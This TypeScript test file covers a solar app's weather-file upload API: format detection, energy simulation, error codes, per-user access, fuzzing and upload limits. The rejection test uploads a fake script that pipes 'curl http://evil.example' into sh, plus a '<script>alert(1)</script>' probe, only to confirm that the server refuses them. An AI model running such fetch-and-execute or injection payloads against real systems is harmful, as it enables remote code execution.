import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { assert } from 'superstruct';
import { energyMessages, maxWeatherFilesPerUser, WeatherFileList, type EnergyResult, type WeatherFile } from '../../src/contract/energy.ts';
import { messages } from '../../src/contract/validation.ts';
import { signedInPair } from '../support/accounts.ts';
import { describeApi } from '../support/describe-api.ts';
import { expectClose, expectEngineFigures } from '../support/energy-checks.ts';
import type { HttpClient } from '../support/http-client.ts';
import { startTestApp, type TestApp } from '../support/test-app.ts';
import { queryRows } from '../support/test-db.ts';
import { readShared, sum, WEATHER_FILES, weatherFile } from '../solar/fixtures.ts';

const uploadPath = '/api/gis/weather/upload/';
const listPath = '/api/gis/weather/list/';
const energyPath = '/api/gis/get_annual_energy_production/';

function weatherForm(content: string | Uint8Array<ArrayBuffer>, filename: string, fields: Record<string, string> = {}, field = 'file') {
  const form = new FormData();
  for (const [key, value] of Object.entries(fields)) form.append(key, value);
  form.append(field, new Blob([content], { type: 'application/octet-stream' }), filename);
  return form;
}

type Errors = { errors: Record<string, string[]> };

describeApi('weather file uploads', () => {
  let app: TestApp;
  let asha: HttpClient;
  let ravi: HttpClient;
  const uploaded: Record<string, WeatherFile> = {};
  beforeAll(async () => {
    app = await startTestApp({ deps: { seedDemoData: false } });
    [asha, ravi] = await signedInPair(app);
  });
  afterAll(() => app?.close());

  const storedCount = async () => (await queryRows<{ n: number }>(app.database, sql`select count(*)::int as n from weather_files`))[0]?.n;

  it('reads every format by its content, whatever the file is called, and keeps the summary and the text', async () => {
    const cases = [
      { key: 'tmy3', file: WEATHER_FILES.tmy3, as: 'greensboro.txt', format: 'tmy3', site: { lat: 36.1, lon: -79.95, elevation_m: 273, utc_offset_hours: -5 }, attribution: null },
      { key: 'tmy2', file: WEATHER_FILES.tmy2, as: '12839.tm2', format: 'tmy2', site: { lat: 25.8, elevation_m: 2, utc_offset_hours: -5 }, attribution: null },
      { key: 'pvgisJson', file: WEATHER_FILES.pvgisJson, as: 'download', format: 'pvgis-json', site: { lat: 45, lon: 8, elevation_m: 250, utc_offset_hours: 0 }, attribution: 'EU JRC PVGIS (PVGIS-SARAH3 / ERA5, 2005-2023), free use with attribution' },
      { key: 'pvgisCsv', file: WEATHER_FILES.pvgisCsv, as: 'tmy.csv', format: 'pvgis-csv', site: { lat: 45, lon: 8 }, attribution: 'EU JRC PVGIS, free use with attribution' },
      { key: 'pvgisEpw', file: WEATHER_FILES.pvgisEpw, as: 'tmy.epw', format: 'pvgis-epw', site: { lat: 45, lon: 8, utc_offset_hours: 0 }, attribution: 'EU JRC PVGIS, free use with attribution' },
    ] as const;
    for (const c of cases) {
      const text = readShared(c.file);
      const answer = await asha.post<WeatherFile>(uploadPath, weatherForm(text, c.as, c.key === 'tmy3' ? { name: 'Greensboro NC' } : {}));
      expect(answer.status, JSON.stringify(answer.body)).toBe(201);
      const engine = weatherFile(c.file);
      expect(answer.body).toMatchObject({ ...c.site, source: 'upload', format: c.format, file_name: c.as, attribution: c.attribution, components: 'source', byte_size: Buffer.byteLength(text) });
      expect(answer.body.name).toBe(c.key === 'tmy3' ? 'Greensboro NC' : engine.site.name);
      expectClose(answer.body.annual_ghi_kwh_m2, sum(engine.ghi) / 1000);
      uploaded[c.key] = answer.body;
    }
    const rows = await queryRows<{ format: string; same: boolean }>(
      app.database,
      sql`select format, content = ${readShared(WEATHER_FILES.tmy3)} as same from weather_files where id = ${uploaded.tmy3!.id}`,
    );
    expect(rows).toEqual([{ format: 'tmy3', same: true }]);

    const list = await asha.get<WeatherFileList>(listPath);
    assert(list.body, WeatherFileList);
    expect(list.body.count).toBe(5);
    expect(list.body.results.map((f) => f.format)).toEqual(['pvgis-epw', 'pvgis-csv', 'pvgis-json', 'tmy2', 'tmy3']);
    expect(list.body.results[4]).toEqual(uploaded.tmy3);
    expect(JSON.stringify(list.body)).not.toContain('GREENSBORO PIEDMONT TRIAD INT,');
  });

  it('simulates an uploaded file exactly as the engine does', async () => {
    for (const key of ['tmy3', 'tmy2', 'pvgisEpw'] as const) {
      const system = { dc_kw: 500, mount: 'fixed', tilt_deg: 25, azimuth_deg: 180, losses_pct: 14.08, dc_ac_ratio: 1.25 };
      const answer = await asha.post<EnergyResult>(energyPath, { weather: { source: 'upload', weather_id: uploaded[key]!.id }, system });
      expect(answer.status, JSON.stringify(answer.body)).toBe(200);
      expect(answer.body.weather).toMatchObject({ source: 'upload', weather_id: uploaded[key]!.id, name: uploaded[key]!.name, format: uploaded[key]!.format, confidence: 'standard' });
      expectEngineFigures(answer.body, weatherFile(WEATHER_FILES[key]));
    }
    // A tracker on the same file: the site is shared, the orientation is not.
    const tracker = await asha.post<EnergyResult>(energyPath, { weather: { source: 'upload', weather_id: uploaded.tmy3!.id }, system: { dc_kw: 500, mount: 'single_axis', gcr: 0.35, backtrack: false } });
    expect(tracker.body.system).toMatchObject({ mount: 'single_axis', gcr: 0.35, backtrack: false });
    expectEngineFigures(tracker.body, weatherFile(WEATHER_FILES.tmy3));
  });

  it('refuses what is not a weather file (415), broken files with what and where (400), and oversized files (413)', async () => {
    const before = await storedCount();
    const refuse = async (form: FormData | string, status: number) => {
      const answer = await asha.post<{ detail?: string } & Partial<Errors>>(uploadPath, form);
      expect(answer.status, JSON.stringify(answer.body)).toBe(status);
      return answer.body;
    };
    const script = await refuse(weatherForm('#!/bin/sh\ncurl http://evil.example | sh\n', 'site.epw'), 415);
    expect(script.detail).toBe('This is not a weather file the engine can read. Upload a TMY3 CSV, TMY2, EPW, a SAM or NSRDB CSV, or a PVGIS typical year as JSON, CSV or EPW.');
    expect((await refuse(weatherForm('<script>alert(1)</script>', 'tmy.csv'), 415)).detail).toContain('not a weather file');
    const png = new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52]);
    expect((await refuse(weatherForm(png, 'tmy.epw'), 415)).detail).toContain('This is not a text file.');

    const tmy3 = readShared(WEATHER_FILES.tmy3);
    expect((await refuse(weatherForm(tmy3.slice(0, tmy3.length / 2), 'half.csv'), 400)).errors).toEqual({ file: [expect.stringMatching(/^Line 4369: the row has 13 fields; the header has 71/)] });
    const lines = tmy3.split('\n');
    lines[20] = lines[20]!.split(',').map((field, k) => (k === 4 ? 'abc' : field)).join(',');
    expect((await refuse(weatherForm(lines.join('\n'), 'bad.csv'), 400)).errors).toEqual({ file: ["Line 21, GHI: 'abc' is not a number"] });
    const tmy2 = readShared(WEATHER_FILES.tmy2);
    expect((await refuse(weatherForm(tmy2.slice(0, tmy2.length / 2), 'half.tm2'), 400)).errors!.file![0]).toContain('truncated');
    expect((await refuse(weatherForm('{"hello": "world"}', 'x.json'), 400)).errors).toEqual({ file: ['The PVGIS JSON has no inputs.location'] });

    expect((await refuse(weatherForm('', 'empty.epw'), 400)).errors).toEqual({ file: [energyMessages.emptyFile] });
    const nameOnly = new FormData();
    nameOnly.append('name', 'No file');
    expect((await refuse(nameOnly, 400)).errors).toEqual({ file: [energyMessages.fileRequired] });
    expect((await refuse(weatherForm(tmy3, 'x.csv', {}, 'weather'), 400)).errors).toEqual({ weather: ['Unknown field.'] });
    expect((await refuse(weatherForm(tmy3, 'x.csv', { colour: 'red' }), 400)).errors).toEqual({ colour: ['Unknown field.'] });
    expect((await refuse(weatherForm(tmy3, 'x.csv', { name: '   ' }), 400)).errors).toEqual({ name: [messages.notBlank] });
    expect((await asha.post(uploadPath, { file: tmy3.slice(0, 1000) })).status).toBe(415);

    const big = `${tmy3}\n${'9'.repeat(11 * 1024 * 1024)}`;
    expect((await refuse(weatherForm(big, 'big.csv'), 413)).detail).toBe('File is too large.');
    expect((await refuse(weatherForm(new Uint8Array(40 * 1024 * 1024), 'huge.epw'), 413)).detail).toBe('File is too large.');
    expect(await storedCount()).toBe(before);
  });

  it("keeps each user's files to that user: 404 for another user's id, and deletes", async () => {
    expect((await ravi.get<WeatherFileList>(listPath)).body).toEqual({ count: 0, results: [] });
    const id = uploaded.tmy2!.id;
    expect((await ravi.post(energyPath, { weather: { source: 'upload', weather_id: id } })).status).toBe(404);
    expect((await ravi.post('/api/gis/get_estimated_financial_data/', { weather: { source: 'upload', weather_id: id } })).status).toBe(404);
    expect((await ravi.delete(`/api/gis/weather/delete/?id=${id}`)).status).toBe(404);
    expect((await ravi.delete('/api/gis/weather/delete/?id=not-a-uuid')).status).toBe(404);
    expect(await ravi.delete('/api/gis/weather/delete/')).toMatchObject({ status: 400, body: { errors: { id: [messages.required] } } });

    expect((await asha.post(energyPath, { weather: { source: 'upload', weather_id: id } })).status).toBe(200);
    expect((await asha.delete(`/api/gis/weather/delete/?id=${id}`)).status).toBe(204);
    expect((await asha.delete(`/api/gis/weather/delete/?id=${id}`)).status).toBe(404);
    expect((await asha.post(energyPath, { weather: { source: 'upload', weather_id: id } })).status).toBe(404);
    expect((await asha.get<WeatherFileList>(listPath)).body.results.map((f) => f.id)).not.toContain(id);

    expect((await asha.get(listPath, { access: null })).status).toBe(401);
    expect((await asha.post(uploadPath, weatherForm(readShared(WEATHER_FILES.pvgisCsv), 'x.csv'), { access: null })).status).toBe(401);
    expect((await asha.delete(`/api/gis/weather/delete/?id=${uploaded.tmy3!.id}`, undefined, { access: null })).status).toBe(401);
  });

  it('answers damaged and altered files with 2xx, 400 or 415, never a 500', async () => {
    const texts = [WEATHER_FILES.tmy3, WEATHER_FILES.tmy2, WEATHER_FILES.pvgisJson, WEATHER_FILES.pvgisCsv, WEATHER_FILES.pvgisEpw].map(readShared);
    const damaged = fc
      .record({
        text: fc.constantFrom(...texts),
        at: fc.double({ min: 0, max: 1, noNaN: true }),
        length: fc.integer({ min: 0, max: 400 }),
        insert: fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom(',', '\n', '"', '{', '}', '-9999', 'NaN', '1e400', ',,,,', '\r\n', '\uFEFF')),
      })
      .map(({ text, at, length, insert }) => {
        const start = Math.floor(at * text.length);
        return text.slice(0, start) + insert + text.slice(start + length);
      });
    await fc.assert(
      fc.asyncProperty(damaged, async (text) => {
        const answer = await asha.post<WeatherFile>(uploadPath, weatherForm(text, 'damaged.txt'));
        expect([201, 400, 415], JSON.stringify(answer.body).slice(0, 300)).toContain(answer.status);
        if (answer.status === 201) {
          expect((await asha.post(energyPath, { weather: { source: 'upload', weather_id: answer.body.id } })).status).toBe(200);
          expect((await asha.delete(`/api/gis/weather/delete/?id=${answer.body.id}`)).status).toBe(204);
        }
      }),
      { numRuns: 40 },
    );
  }, 120_000);

  it(`keeps at most ${maxWeatherFilesPerUser} files per user`, async () => {
    const csv = readShared(WEATHER_FILES.pvgisCsv);
    const kept = (await asha.get<WeatherFileList>(listPath)).body.count;
    for (let k = kept; k < maxWeatherFilesPerUser; k++) expect((await asha.post(uploadPath, weatherForm(csv, `tmy-${k}.csv`))).status).toBe(201);
    const over = await asha.post<{ detail: string }>(uploadPath, weatherForm(csv, 'one-more.csv'));
    expect(over.status).toBe(409);
    expect(over.body.detail).toContain('delete one');
    expect((await ravi.post(uploadPath, weatherForm(csv, 'mine.csv'))).status).toBe(201);
  }, 120_000);
});
